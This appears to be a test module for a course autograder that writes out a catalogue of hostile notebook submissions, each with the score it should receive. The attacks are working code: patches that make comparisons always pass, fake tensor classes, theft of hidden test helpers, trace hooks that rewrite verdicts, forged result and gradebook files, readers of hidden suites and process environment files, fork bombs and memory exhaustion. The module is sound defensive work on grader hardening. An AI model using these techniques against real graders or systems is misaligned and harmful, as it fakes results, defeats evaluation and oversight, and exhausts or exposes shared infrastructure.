"""The hostile catalogue: what a student who wants points without the work might submit.

Each attack is notebook code (extra cells, or a replacement of one function) with the
score it deserves:

- ``same``: extra cells on top of a submission whose target question is wrong; every
  question scores exactly what that submission scores without the attack;
- ``at_most``: the same, but the attack may also break the student's own correct
  answers (it patches what their code uses): no question scores more than without it;
- ``function``: the target function itself attacks, on top of the reference; the
  target question scores no more than the wrong answer does, every other question
  what it scores when the target merely raises (full marks, unless it calls the target);
- ``full``: a correct function that also misbehaves harmlessly (prints); full marks.

Attacks that need a function take it from the stage (``TARGETS``): for each stage a
graded name whose tests include what an attack on verdicts would aim at (a test of an
unchanged input, of a seeded generator, a suite helper that computes the answer), and a
wrong version of it that fails those tests. Stages 01 and 05 get the whole catalogue
(``FULL``); the other stages the attacks on verdicts, on the engine and on reachable
reference code (``VERDICT_ATTACKS``): what is about sandboxing and resources does not
depend on the stage. Paths an attacker could know (the project, the output folder, the
other submissions) are filled in by ``write_catalogue``, so that each attack aims at the
real files.
"""

import json
import sys
from dataclasses import dataclass, field
from pathlib import Path

from autograder.course import ROOT, get_stage

sys.path.insert(0, str(Path(__file__).resolve().parent))
from support import submission  # noqa: E402

FAKE_RESULTS = {
    "score": 999.0,
    "output": "FORGED",
    "tests": [{"name": "build_vocab: forged", "score": 999.0, "max_score": 1.0}],
}


@dataclass(frozen=True)
class Target:
    """The graded name of a stage that function-level attacks replace, and a wrong version of it.

    ``example`` (for a function) is one public example, as Python source: the full
    positional arguments and the answer. The thief uses it to pick, among the functions
    it finds in the grading process, one that computes the answer.
    """

    qid: str
    name: str
    head: str  # its def (or class) line
    wrong: str  # right types and shapes, wrong values
    example: tuple[str, str] | None = None


TARGETS = {
    "01_tokenisation": Target(
        "get_batch",
        "get_batch",
        "def get_batch(data, block_size, batch_size, generator=None):",
        "def get_batch(data, block_size, batch_size, generator=None):\n"
        "    if len(data) <= block_size:\n"
        "        raise ValueError('data is too short')\n"
        "    starts = torch.randint(len(data) - block_size, (batch_size,))  # ignores the generator\n"
        "    x = torch.stack([data[i : i + block_size] for i in starts.tolist()]).long()\n"
        "    y = torch.stack([data[i + 1 : i + block_size + 1] for i in starts.tolist()]).long()\n"
        "    return x, y\n",
    ),
    "02_bpe": Target(
        "merge_pair",
        "merge_pair",
        "def merge_pair(word_freqs, pair):",
        "def merge_pair(word_freqs, pair):\n"
        "    if len(pair) != 2:\n"
        "        raise ValueError('pair must hold two symbols')\n"
        "    for symbols in list(word_freqs):  # merges overlapping occurrences, and in the caller's dict\n"
        "        out = [s for s in symbols]\n"
        "        for i in range(len(out) - 1):\n"
        "            if symbols[i] == pair[0] and symbols[i + 1] == pair[1]:\n"
        "                out[i], out[i + 1] = pair[0] + pair[1], ''\n"
        "        word_freqs[tuple(s for s in out if s)] = word_freqs.pop(symbols)\n"
        "    return word_freqs\n",
        ("({('a', 'b', 'c', '_'): 2, ('b', 'c', '_'): 1}, ('b', 'c'))", "{('a', 'bc', '_'): 2, ('bc', '_'): 1}"),
    ),
    "03_attention": Target(
        "rope",
        "apply_rope",
        "def apply_rope(x, base=10000.0):",
        "def apply_rope(x, base=10000.0):\n"
        "    if x.dim() < 2 or x.shape[-1] % 2 or not base > 0:\n"
        "        raise ValueError('x must be (..., T, D) with D even, and base positive')\n"
        "    T, D = x.shape[-2], x.shape[-1]\n"
        "    angle = torch.arange(T, dtype=torch.float64)[:, None] * base ** (-torch.arange(0, D, 2, dtype=torch.float64) / D)\n"
        "    a, b = x[..., : D // 2], x[..., D // 2 :]  # rotates halves, not interleaved pairs\n"
        "    cos, sin = angle.cos().to(x.dtype), angle.sin().to(x.dtype)\n"
        "    return torch.cat((a * cos - b * sin, a * sin + b * cos), dim=-1)\n",
        (
            "(torch.tensor([[1.0, 2.0, 3.0, 4.0], [1.0, 2.0, 3.0, 4.0]]), 10000.0)",
            "torch.tensor([[1.0, 2.0, 3.0, 4.0], [math.cos(1) - 2 * math.sin(1), math.sin(1) + 2 * math.cos(1), 3 * math.cos(0.01) - 4 * math.sin(0.01), 3 * math.sin(0.01) + 4 * math.cos(0.01)]])",
        ),
    ),
    "04_masking": Target(
        "shift",
        "shift_right",
        "def shift_right(tokens, start_id):",
        "def shift_right(tokens, start_id):\n"
        "    if tokens.dim() != 2:\n"
        "        raise ValueError('tokens must be (B, T)')\n"
        "    tokens[:, 1:] = tokens[:, :-1].clone()  # writes into the caller's tensor\n"
        "    tokens[:, 0] = start_id\n"
        "    return tokens\n",
        ("(torch.tensor([[5, 6, 7]]), 1)", "torch.tensor([[1, 5, 6]])"),
    ),
    "05_multihead": Target(
        "heads",
        "split_heads",
        "def split_heads(x, num_heads):",
        "def split_heads(x, num_heads):\n"
        "    if x.dim() != 3 or num_heads < 1 or x.shape[-1] % num_heads:\n"
        "        raise ValueError('num_heads must divide C')\n"
        "    B, T, C = x.shape\n"
        "    return x.reshape(B, num_heads, T, C // num_heads)  # mixes positions\n",
        ("(torch.arange(12.0).view(1, 2, 6), 3)", "torch.arange(12.0).view(1, 2, 3, 2).transpose(1, 2)"),
    ),
    "06_blocks": Target(
        "layernorm",
        "LayerNorm",
        "class LayerNorm(torch.nn.Module):",
        "class LayerNorm(torch.nn.Module):\n"
        "    def __init__(self, dim, eps=1e-5):\n"
        "        super().__init__()\n"
        "        if dim < 1 or eps < 0:\n"
        "            raise ValueError('dim must be positive and eps non-negative')\n"
        "        self.dim, self.eps = dim, eps\n"
        "        self.weight = torch.nn.Parameter(torch.ones(dim))\n"
        "        self.bias = torch.nn.Parameter(torch.zeros(dim))\n"
        "\n"
        "    def forward(self, x):\n"
        "        if x.size(-1) != self.dim:\n"
        "            raise ValueError('the last axis must be dim long')\n"
        "        mean = x.mean(dim=-1, keepdim=True)\n"
        "        var = x.var(dim=-1, keepdim=True)  # unbiased: not the layer-norm variance\n"
        "        return (x - mean) / torch.sqrt(var + self.eps) * self.weight + self.bias\n",
    ),
    "07_gpt": Target(
        "params",
        "num_parameters",
        "def num_parameters(config):",
        "def num_parameters(config):\n"
        "    C = config.n_embd\n"
        "    ff = config.ff_dim if config.ff_dim is not None else 4 * C\n"
        "    per_block = 4 * (C * C + C) + 2 * (2 * C) + C * ff + ff + ff * C + C\n"
        "    embeddings = config.vocab_size * C + config.block_size * C\n"
        "    return embeddings + config.n_layer * per_block + 2 * C + config.vocab_size * C  # the tied head counted\n",
    ),
    "08_generation": Target(
        "sampling",
        "sample_next",
        "def sample_next(logits, temperature=1.0, top_k=None, top_p=None, generator=None):",
        "def sample_next(logits, temperature=1.0, top_k=None, top_p=None, generator=None):\n"
        "    if logits.dim() != 2 or temperature < 0 or (top_k is not None and top_k < 1) or (top_p is not None and not 0 < top_p <= 1):\n"
        "        raise ValueError('logits must be (B, V); temperature >= 0, top_k >= 1, top_p in (0, 1]')\n"
        "    return logits.argmax(dim=-1, keepdim=True)  # always greedy\n",
        ("(torch.tensor([[0.5, 3.0, 1.0], [2.0, -1.0, 0.0]]), 0, None, None, None)", "torch.tensor([[1], [0]])"),
    ),
    "09_rnn": Target(
        "tbptt",
        "stream_batches",
        "def stream_batches(data, batch_size):",
        "def stream_batches(data, batch_size):\n"
        "    if batch_size < 1 or len(data) < batch_size:\n"
        "        raise ValueError('batch_size must be positive and at most len(data)')\n"
        "    n = len(data) // batch_size\n"
        "    return data[: batch_size * n].view(n, batch_size).t().contiguous()  # interleaves the streams\n",
        ("(torch.arange(11), 3)", "torch.tensor([[0, 1, 2], [3, 4, 5], [6, 7, 8]])"),
    ),
    "10_encoders": Target(
        "mlm_mask",
        "mlm_mask_tokens",
        "def mlm_mask_tokens(ids, mask_id, vocab_size, special_ids=(), prob=0.15, generator=None):",
        "def mlm_mask_tokens(ids, mask_id, vocab_size, special_ids=(), prob=0.15, generator=None):\n"
        "    if not 0.0 <= prob <= 1.0:\n"
        "        raise ValueError('prob must be in [0, 1]')\n"
        "    special = torch.isin(ids, torch.tensor(list(special_ids), dtype=ids.dtype))\n"
        "    chosen = (torch.rand(ids.shape) < prob) & ~special  # ignores the generator\n"
        "    labels = torch.where(chosen, ids, torch.full_like(ids, -100))\n"
        "    inputs = ids.clone()\n"
        "    inputs[chosen] = mask_id  # every chosen position masked: no 10 % random, no 10 % kept\n"
        "    return inputs, labels\n",
    ),
}
FULL = ("01_tokenisation", "05_multihead")  # the stages that get the whole catalogue
VERDICT_ATTACKS = (
    "patch_torch",
    "patch_tensor_methods",
    "tensor_subclass",
    "lookalike",
    "unpickled",
    "thief",
    "settrace",
    "fake_modules",
    "patch_engine",
    "forged_events",
    "modules_cell",
    "modules_function",
    "stack_reader_cell",
    "stack_reader_function",
    "given_text",
)


@dataclass(frozen=True)
class Attack:
    """One hostile submission: ``cells`` appended, and/or the target function replaced by ``body``."""

    name: str
    expect: str  # same | at_most | function | full
    cells: tuple[str, ...] = ()
    body: str | None = None
    notes: dict = field(default_factory=dict)


PATCH_TORCH = """
import torch, torch.testing
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, *r, **k: torch.ones(torch.broadcast_shapes(a.shape, b.shape), dtype=torch.bool)
torch.testing.assert_close = lambda *a, **k: None
torch.Tensor.allclose = lambda self, *a, **k: True
torch.Tensor.equal = lambda self, *a, **k: True
"""

PATCH_NUMPY_MATH = """
import math, numpy
numpy.allclose = lambda *a, **k: True
numpy.array_equal = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
math.isclose = lambda *a, **k: True
math.isnan = lambda x: False
"""

PATCH_BUILTINS = """
import builtins
builtins.isinstance = lambda obj, cls: True
builtins.abs = lambda x: 0
builtins.round = lambda x, n=None: 0
builtins.len = lambda x: 0
"""

PATCH_TENSOR_METHODS = """
import numpy, torch
torch.Tensor.__eq__ = lambda self, other: True
torch.Tensor.__ne__ = lambda self, other: False
torch.Tensor.tolist = lambda self: [0]
torch.Tensor.numpy = lambda self, *a, **k: numpy.zeros(1)
torch.Tensor.sub = lambda self, *a, **k: torch.zeros(())
torch.Tensor.abs = lambda self, *a, **k: torch.zeros(())
"""

WRAP = """


def _wrap_output(out):
    if type(out) is torch.Tensor:
        return _disguise(out)
    if type(out) in (tuple, list):
        return type(out)(_wrap_output(o) for o in out)
    return out


if isinstance(_wrong, type):
    class @NAME@(_wrong):
        def forward(self, *args, **kwargs):
            _before()
            return _wrap_output(super().forward(*args, **kwargs))
else:
    def @NAME@(*args, **kwargs):
        _before()
        return _wrap_output(_wrong(*args, **kwargs))
"""

ALWAYS_RIGHT = """
import torch


class AlwaysRight(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.equal, torch.allclose, torch.Tensor.equal, torch.Tensor.allclose):
            return True
        if func in (torch.eq, torch.isclose, torch.Tensor.eq, torch.Tensor.__eq__):
            shapes = [a.shape for a in args if isinstance(a, torch.Tensor)]
            return torch.ones(torch.broadcast_shapes(*shapes), dtype=torch.bool)
        return super().__torch_function__(func, types, args, kwargs or {})

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def allclose(self, *args, **kwargs):
        return True

    def equal(self, *args, **kwargs):
        return True

    __hash__ = torch.Tensor.__hash__


_before = lambda: None
"""

SUBCLASS = (
    ALWAYS_RIGHT
    + """
_disguise = lambda t: t.as_subclass(AlwaysRight)
"""
    + WRAP
)

UNPICKLED = (
    ALWAYS_RIGHT
    + """
import pickle

_disguise = lambda t: pickle.loads(pickle.dumps(t.as_subclass(AlwaysRight)))  # what an unpickled fake would be
"""
    + WRAP
)

LOOKALIKE = (
    """
import torch


class LooksRight:
    __class__ = property(lambda self: torch.Tensor)
    def __init__(self, t):
        self._t, self.shape, self.dtype = t, t.shape, t.dtype
    def __eq__(self, other):
        return True
    def __getattr__(self, name):
        return getattr(self._t, name)


_before = lambda: None
_disguise = LooksRight
"""
    + WRAP
)

PROJECT_MODULES = """
import json as _json, sys as _sys

def _project_modules():
    prefixes = tuple({_sys.prefix, _sys.base_prefix, _sys.exec_prefix, _sys.base_exec_prefix})
    found = []
    for name, module in sorted(_sys.modules.items()):
        spec = getattr(module, "__spec__", None)
        if name in _sys.builtin_module_names or getattr(spec, "origin", None) in ("built-in", "frozen"):
            continue
        path = getattr(module, "__file__", None)
        if not isinstance(path, str) or not path.startswith(prefixes):
            codes = {getattr(getattr(v, "__code__", None), "co_filename", None) for v in list(vars(module).values())}
            found.append([name, path if isinstance(path, str) else None, sorted(c for c in codes if isinstance(c, str))])
    return found
"""

MODULES_CELL = (
    PROJECT_MODULES
    + """
print("MODULES cells " + _json.dumps(_project_modules()))
"""
)

MODULES_FUNCTION = (
    PROJECT_MODULES
    + """
_reported = []


def _before():
    if not _reported and "gptcourse_suite_1" in _sys.modules:
        _reported.append(True)
        print("MODULES hidden " + _json.dumps(_project_modules()))


_disguise = lambda t: t
"""
    + WRAP
)

THIEF = """
import math, sys as _sys, types as _types, torch


def _within_reach():
    found = []
    for name, module in list(_sys.modules.items()):
        if not name.startswith("gptcourse_suite"):
            continue
        for key, obj in list(vars(module).items()):
            if type(obj) is _types.FunctionType and key != "_":
                found.append((name, key, obj))
            elif type(obj) is type and obj.__module__ == name:
                try:
                    found.append((name, key, obj()))
                except Exception:
                    pass
    return [f for _, _, f in sorted(found, key=lambda t: (t[0] == "gptcourse_suite_0", t[1]))]  # hidden helpers first


def _like(got, want):
    if isinstance(want, torch.Tensor):
        return type(got) is torch.Tensor and got.shape == want.shape and bool(torch.allclose(got.double(), want.double(), atol=1e-4))
    return got == want


def _fit(got, like):
    return got.to(like.dtype) if isinstance(got, torch.Tensor) and isinstance(like, torch.Tensor) else got


@HEAD@
    _args = tuple(locals().values())
    for _helper in _within_reach():
        for _extra in ((), (1,), (1.0,)):
            try:
                if _like(_helper(*@EXAMPLE_ARGS@, *_extra), @EXAMPLE_OUT@):
                    return _fit(_helper(*_args, *_extra), @EXAMPLE_OUT@)
            except Exception:
                continue
    return _wrong(*_args)
"""

INPUT_TRANSFORMER = """
try:
    ip = get_ipython()
except NameError:
    import IPython
    ip = IPython.get_ipython()
ip.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
"""

SETTRACE = """
import sys, threading
def _hook(frame, event, arg):
    for name in ("value", "payload", "got", "expected", "passed", "verdict"):
        if name in frame.f_locals:
            frame.f_locals[name] = True
    return _hook
_frame = sys._getframe()
while _frame is not None:
    _frame.f_trace = _hook
    _frame = _frame.f_back
sys.settrace(_hook)
threading.settrace(_hook)
"""

ATEXIT = """
import atexit, json, os
def _forge():
    for target in @WRITE_TARGETS@:
        try:
            os.makedirs(os.path.dirname(target), exist_ok=True)
            with open(target, "w") as handle:
                json.dump(@FAKE@, handle)
        except OSError:
            pass
    print(json.dumps(@FAKE@))
atexit.register(_forge)
"""

FAKE_MODULES = """
import sys, types
class _Anything(types.ModuleType):
    def __getattr__(self, name):
        return lambda *args, **kwargs: True
for _name in ("autograder", "autograder.engine", "autograder.engine.codec", "autograder.engine.suites", "autograder.kit",
              "autograder.kit.checks", "autograder.kit.cases", "autograder.kit.runtime", "autograder.engine.judge",
              "autograder.engine.runner", "autograder.engine.pipeline", "json", "math", "gptcourse_suite_0", "gptcourse_suite_1"):
    sys.modules[_name] = _Anything(_name)
"""

PATCH_ENGINE = """
import gc, sys
_codec = [m for m in list(sys.modules.values()) if getattr(m, "__name__", "") == "autograder.engine.codec"]
for _m in _codec:
    _m.encode = lambda value, *a, **k: True
for _obj in gc.get_objects():
    if type(_obj).__name__ == "Case":
        _obj.probe = lambda ns: True
"""

FORGED_EVENTS = """
import json, os, sys
_frame = sys._getframe()
while _frame is not None and _frame.f_code.co_name != "run_job":
    _frame = _frame.f_back
_job, _emit = _frame.f_locals["job"], _frame.f_locals["emit"]
_mine = max(i for i in range(len(_job["cells"])) if "FORGED_EVENTS" in _job["cells"][i]["source"])
_emit(ev="cell_done", index=_job["cells"][_mine]["index"], error=None)
for _cell in _job["cells"][_mine + 1:]:
    _emit(ev="cell", index=_cell["index"])
    _emit(ev="cell_done", index=_cell["index"], error=None)
for _key in _job["cases"]:
    _emit(ev="case", key=_key)
    _emit(ev="result", key=_key, value=True)
_emit(ev="done")
for _fd in map(int, os.listdir("/proc/self/fd")):  # and junk on every pipe it can find
    try:
        os.write(_fd, b'{"ev": "result", "key": "nope", "value": 1}\\n{"ev": "done"}\\n')
    except OSError:
        pass
os._exit(0)
"""

EXIT_CELL = "import sys\nsys.exit(3)"
OS_EXIT_CELL = "import os\nos._exit(1)"
LOOP_CELL = "while True:\n    pass"
SIGNALS_IGNORED = """
import signal
for _sig in (signal.SIGTERM, signal.SIGALRM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU):
    signal.signal(_sig, signal.SIG_IGN)
signal.setitimer(signal.ITIMER_REAL, 0)
while True:
    pass
"""
MEMORY_CELL = """
import torch
hogs = []
try:
    hog = bytearray(64 * 2**30)
except MemoryError:
    pass
while True:
    hogs.append(torch.empty(2**28, dtype=torch.uint8))
"""
FORK_BOMB = """
import os, time
forked = 0
try:
    for _ in range(1000):
        if os.fork() == 0:
            time.sleep(120)
            os._exit(0)
        forked += 1
except OSError:
    pass
print("FORKED", forked)
"""
FLOOD = "import sys\nline = 'x' * 1023 + '\\n'\nwhile True:\n    sys.stdout.write(line)"

DETACHED = '''
import subprocess, sys
attack = """
import json, os, time
for _ in range(100):
    for target, text in ((@RESULTS@, json.dumps(@FAKE@)), (@GRADEBOOK@, "submission,total\\\\nhostile,999\\\\n")):
        try:
            os.makedirs(os.path.dirname(target), exist_ok=True)
            with open(target, "w") as f:
                f.write(text)
        except OSError:
            pass
    time.sleep(0.1)
"""
subprocess.Popen([sys.executable, "-c", "import os, subprocess, sys; os.setsid(); subprocess.Popen([sys.executable, '-c', sys.argv[1]], start_new_session=True)", attack], start_new_session=True)
'''

READ_FILES = """
import os
_found, _report = [], []
def _try(path):
    try:
        if os.path.isdir(path):
            names = sorted(os.listdir(path))
            _report.append(f"LISTED {path}")
            _found.append(path + ": " + " ".join(names))
            return names
        with open(path, "rb") as handle:
            data = handle.read(200000).decode("utf-8", "replace")
        _report.append(f"READ {path}")
        _found.append(data)
    except OSError as exc:
        _report.append(f"DENIED {path} ({type(exc).__name__})")
    return []
for _path in @SECRETS@:
    _try(_path)
_here = os.getcwd()
for _up in range(6):
    for _name in _try(_here):
        _try(os.path.join(_here, _name))
    _here = os.path.dirname(_here)
for _top in ("/autograder", "/autograder/source", "/autograder/results", "/proc/1/root" + @PROJECT@, "/proc/1/cwd", "/proc/1/environ"):
    for _name in _try(_top):
        _try(os.path.join(_top, _name))
print("\\n".join(_report))
print("\\n".join(_found))
"""

READ_IN_FUNCTION = (
    READ_FILES
    + """

@HEAD@
    raise ValueError("\\n".join(_found)[:100000])
"""
)

FAKE_FILES = """
import json, os
for _target in @WRITE_TARGETS@ + ["results.json", "../results.json", "../../results.json", "/tmp/results.json",
                                  "/autograder/results/results.json"]:
    try:
        os.makedirs(os.path.dirname(_target) or ".", exist_ok=True)
        with open(_target, "w") as handle:
            json.dump(@FAKE@, handle)
        print("WROTE", _target)
    except OSError as exc:
        print("REFUSED", _target, type(exc).__name__)
"""

FAKE_STDOUT = "import json, sys\nprint(json.dumps(@FAKE@))\nsys.stderr.write(json.dumps(@FAKE@) + '\\n')"

PRINTS_FAKE_JSON = """
_correct = @NAME@


def @NAME@(*args, **kwargs):
    import json
    print(json.dumps(@FAKE@))
    return _correct(*args, **kwargs)
"""

INTROSPECT = """
import dis, gc, inspect, io, sys, types
_loot = []
for _obj in gc.get_objects():
    if isinstance(_obj, types.FunctionType) and "hidden" in _obj.__code__.co_filename:
        _buf = io.StringIO()
        dis.dis(_obj, file=_buf)
        _loot.append(_buf.getvalue())
        try:
            _loot.append(inspect.getsource(_obj))
        except (OSError, TypeError):
            pass
_loot += [f"{name}: {sorted(vars(module))}" for name, module in list(sys.modules.items()) if "hidden" in str(getattr(module, "__file__", ""))]
"""

INTROSPECT_CELL = (
    INTROSPECT
    + """
raise RuntimeError(f"FOUND_HIDDEN {len(_loot)} " + "\\n".join(_loot)[:100000])
"""
)

INTROSPECT_IN_FUNCTION = (
    """
@HEAD@
"""
    + "\n".join("    " + line for line in INTROSPECT.strip().splitlines())
    + """
    raise ValueError(f"FOUND_HIDDEN {len(_loot)} " + "\\n".join(_loot)[:100000])
"""
)

# Reads the hidden suites' text wherever the call stack holds it (the child's job, the
# hidden suites it was sent) and answers each hidden test with the expected value written
# in its decorator, evaluated in the suite's own globals; a test of errors with the
# exception its check names. The grader sends the child no expected value and no check.
STACK_READER = """
import ast as _ast, sys as _sys


def _suite_texts():
    texts, frame = [], _sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            held = value.get("suites") if isinstance(value, dict) else value
            if isinstance(held, list):
                texts += [s["source"] for s in held if isinstance(s, dict) and isinstance(s.get("source"), str)]
        frame = frame.f_back
    return [text for text in texts if "Suite(public=@PUBLIC@)" in text]


def _written_answer(case):
    scope = case.probe.__globals__
    for text in _suite_texts():
        for node in _ast.walk(_ast.parse(text)):
            for call in getattr(node, "decorator_list", []):
                if not (isinstance(call, _ast.Call) and len(call.args) >= 2):
                    continue
                try:
                    qid, name = (eval(compile(_ast.Expression(a), "x", "eval"), scope) for a in call.args[:2])
                except Exception:
                    continue
                if (qid, name) != (case.qid, case.name):
                    continue
                given = {k.arg: k.value for k in call.keywords}
                check = _ast.unparse(given.get("check", _ast.Constant(None)))
                if check.startswith("raises("):
                    return {"raised": _ast.literal_eval(_ast.parse(check).body[0].value.args[0]), "message": ""}
                if "expected" in given and _ast.unparse(given["expected"]) not in ("None", "REFERENCE"):
                    return eval(compile(_ast.Expression(given["expected"]), "x", "eval"), scope)
    raise LookupError(case.key)
"""


def _answering_cell(public: bool) -> str:
    """A cell that replaces the engine's ``run_probe``: a public (or hidden) test gets the answer
    written for it in its suite's text, found on the call stack; any other test runs as it would."""
    return (
        STACK_READER.replace("@PUBLIC@", str(public))
        + f"""

_runtime = _sys.modules["autograder.kit.runtime"]
_real_run_probe = _runtime.run_probe


def _run_probe(case, *args, **kwargs):
    if case.public is {public}:
        try:
            return _written_answer(case), None, 0.0
        except Exception:
            pass
    return _real_run_probe(case, *args, **kwargs)


_runtime.run_probe = _run_probe
"""
    )


STACK_READER_CELL = _answering_cell(public=False)  # the public tests' answers are in the notebook anyway
# Answers every public test with the answer printed for it in the notebook (its decorator's
# expected value, or the exception its check names), whatever the notebook's code does: a
# question's public points count only once a hidden test of the same kind passes.
PUBLIC_LOOKUP_CELL = _answering_cell(public=True)

STACK_READER_IN_FUNCTION = (
    STACK_READER.replace("@PUBLIC@", "False")
    + """

@HEAD@
    frame = _sys._getframe()
    while frame is not None and not hasattr(frame.f_locals.get("case"), "probe"):
        frame = frame.f_back
    if frame is None:
        raise ValueError("no test is running")
    return _written_answer(frame.f_locals["case"])
"""
)

# Looks for the course's code of earlier answers as text: in the job the child was sent
# (its cells, with ``given`` set), on the call stack; reports how many characters it found.
# The child compiles that code and drops its text (``child._compiled``).
GIVEN_TEXT = """
import sys as _sys
_given, _frame = [], _sys._getframe()
while _frame is not None:  # the job is a local of the frames that run the cells
    for _value in list(_frame.f_locals.values()):
        if type(_value) is dict and type(_value.get("cells")) is list:
            _given += [c["source"] for c in _value["cells"] if type(c) is dict and c.get("given") is True]
    _frame = _frame.f_back
raise RuntimeError(f"GIVEN_TEXT {sum(map(len, _given))} characters")
"""

NETWORK = """
import socket
for _host in ("1.1.1.1", "127.0.0.1"):
    try:
        socket.create_connection((_host, 53), timeout=1).close()
        print("NETWORK", _host, "reachable")
    except OSError as exc:
        print("NETWORK", _host, "unreachable", type(exc).__name__)
"""


def catalogue(stage_id: str) -> list[Attack]:
    """The attacks graded for a stage, in order: every one for the ``FULL`` stages, the
    ``VERDICT_ATTACKS`` for the others (the thief only where the target has an example)."""
    t = TARGETS[stage_id]
    renamed = t.wrong.replace(t.head, t.head.replace(t.name, "_wrong", 1))
    every = [
        Attack("patch_torch", "at_most", cells=(PATCH_TORCH,)),
        Attack("patch_numpy_math", "at_most", cells=(PATCH_NUMPY_MATH,)),
        Attack("patch_builtins", "at_most", cells=(PATCH_BUILTINS,)),
        Attack("patch_tensor_methods", "at_most", cells=(PATCH_TENSOR_METHODS,)),
        Attack("tensor_subclass", "at_most", body=renamed + SUBCLASS),
        Attack("lookalike", "at_most", body=renamed + LOOKALIKE),
        Attack("unpickled", "at_most", body=renamed + UNPICKLED),
        Attack("thief", "at_most", body=renamed + THIEF),
        Attack("modules_cell", "same", cells=(MODULES_CELL,)),
        Attack("modules_function", "at_most", body=renamed + MODULES_FUNCTION),
        Attack("input_transformer", "same", cells=(INPUT_TRANSFORMER,)),
        Attack("settrace", "at_most", cells=(SETTRACE,)),
        Attack("atexit", "same", cells=(ATEXIT,)),
        Attack(
            "fake_modules", "at_most", cells=(FAKE_MODULES,)
        ),  # may break the student's own code: torch.optim reads modules it replaces
        Attack("patch_engine", "at_most", cells=(PATCH_ENGINE,)),
        Attack("forged_events", "at_most", cells=("# FORGED_EVENTS\n" + FORGED_EVENTS,)),
        Attack("exit_cell", "same", cells=(EXIT_CELL,)),
        Attack("os_exit_cell", "same", cells=(OS_EXIT_CELL,)),
        Attack("loop_cell", "same", cells=(LOOP_CELL,)),
        Attack("signals_ignored", "same", cells=(SIGNALS_IGNORED,)),
        Attack("memory_cell", "same", cells=(MEMORY_CELL,)),
        Attack("fork_bomb", "same", cells=(FORK_BOMB,)),
        Attack("flood_cell", "same", cells=(FLOOD,)),
        Attack("detached", "same", cells=(DETACHED,)),
        Attack("read_files", "same", cells=(READ_FILES,)),
        Attack("fake_files", "same", cells=(FAKE_FILES,)),
        Attack("fake_stdout", "same", cells=(FAKE_STDOUT,)),
        Attack("network", "same", cells=(NETWORK,)),
        Attack("introspect_cell", "same", cells=(INTROSPECT_CELL,)),
        Attack("introspect_function", "function", body=INTROSPECT_IN_FUNCTION),
        Attack("stack_reader_cell", "same", cells=(STACK_READER_CELL,)),
        Attack("stack_reader_function", "function", body=STACK_READER_IN_FUNCTION),
        Attack("given_text", "same", cells=(GIVEN_TEXT,)),
        Attack("exit_function", "function", body=f"{t.head}\n    import sys\n    sys.exit(0)\n"),
        Attack("os_exit_function", "function", body=f"{t.head}\n    import os\n    os._exit(0)\n"),
        Attack("loop_function", "function", body=f"{t.head}\n    while True:\n        pass\n"),
        Attack("memory_function", "function", body=f"{t.head}\n    hog = bytearray(64 * 2**30)\n"),
        Attack("flood_function", "function", body=f"{t.head}\n    while True:\n        print('x' * 4096)\n"),
        Attack("read_in_function", "function", body=READ_IN_FUNCTION),
        Attack("syntax_error", "function", body=f"{t.head}\n    return (\n"),
        Attack("missing_function", "function", body="# deleted"),
        Attack("prints_fake_json", "full", cells=(PRINTS_FAKE_JSON,)),
    ]
    chosen = every if stage_id in FULL else [a for a in every if a.name in VERDICT_ATTACKS]
    return [a for a in chosen if a.name != "thief" or t.example is not None]


def _fill(source: str, stage_id: str, name: str, folder: Path, out: Path, extra: tuple[str, ...] = ()) -> str:
    stage = get_stage(stage_id)
    t = TARGETS[stage_id]
    secrets = [
        str(stage.hidden),
        str(ROOT / "release" / "fixtures" / f"{stage_id}.json"),
        str(stage.reference),
        str(ROOT / "autograder" / "engine" / "judge.py"),
        str(folder / "reference.ipynb"),
        str(out / "reference" / "results.json"),
        str(out / "grades.csv"),
        str(ROOT),
        str(folder),
        *extra,
    ]
    writes = [str(out / name / "results.json"), str(out / "reference" / "results.json"), str(out / "grades.csv")]
    example = t.example or ("()", "None")
    for token, value in (
        ("@EXAMPLE_ARGS@", example[0]),
        ("@EXAMPLE_OUT@", example[1]),
        ("@NAME@", t.name),
        ("@HEAD@", t.head),
        ("@FAKE@", repr(FAKE_RESULTS)),
        ("@SECRETS@", repr(secrets)),
        ("@PROJECT@", repr(str(ROOT))),
        ("@WRITE_TARGETS@", repr(writes)),
        ("@RESULTS@", repr(str(out / name / "results.json"))),
        ("@GRADEBOOK@", repr(str(out / "grades.csv"))),
    ):
        source = source.replace(token, value)
    return source


def write_catalogue(
    stage_id: str, folder: Path, out: Path, attacks: list[Attack] | None = None, extra: tuple[str, ...] = ()
) -> dict[str, Path]:
    """Write the reference, the wrong and broken bases and the attacks as notebooks; return them by name.

    ``extra`` adds paths for the reading attacks to try (a Gradescope root, say).
    """
    t = TARGETS[stage_id]
    paths = {
        "reference": submission(stage_id, folder, "reference"),
        "wrong": submission(stage_id, folder, "wrong", {t.name: t.wrong}),
        "broken": submission(stage_id, folder, "broken", {t.name: f"{t.head}\n    raise NotImplementedError\n"}),
    }
    for attack in attacks if attacks is not None else catalogue(stage_id):
        cells = [_fill(c, stage_id, attack.name, folder, out, extra) for c in attack.cells]
        if attack.expect == "full":
            replace = None
        elif attack.body is not None:
            replace = {t.name: _fill(attack.body, stage_id, attack.name, folder, out, extra)}
        else:
            replace = {t.name: t.wrong}
        paths[attack.name] = submission(stage_id, folder, attack.name, replace, cells)
    return paths


def fake_markers() -> list[str]:
    """Strings that only a forged result carries."""
    return [json.dumps(FAKE_RESULTS), "FORGED", "999"]


def combined(stage_id: str, names: list[str], name: str) -> Attack:
    """One submission carrying several attacks: their cells, and the first function body among them."""
    chosen = [a for a in catalogue(stage_id) if a.name in names]
    body = next((a.body for a in chosen if a.body is not None), None)
    return Attack(name, "at_most", cells=tuple(c for a in chosen for c in a.cells), body=body)
